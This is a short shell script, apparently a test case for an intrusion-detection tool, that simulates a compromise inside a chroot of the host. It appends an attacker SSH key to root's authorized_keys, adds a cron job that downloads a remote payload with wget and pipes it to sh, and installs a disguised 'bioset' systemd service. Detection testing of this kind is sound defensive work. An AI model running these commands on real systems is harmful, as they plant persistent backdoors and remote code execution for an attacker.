#!/bin/sh
. /opt/case/case.sh

chroot /host /bin/busybox sh -c '
mkdir -p /root/.ssh /etc/systemd/system; echo "ssh-rsa AAAABait gang" >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys
echo "*/5 * * * * root wget -q -O- http://203.0.113.10/payload.sh | sh" >/etc/cron.d/zzh
printf "[Service]\nExecStart=/usr/bin/bioset\nRestart=always\n[Install]\nWantedBy=multi-user.target\n" >/etc/systemd/system/bioset.service'
test -s /host/etc/cron.d/zzh
took_place
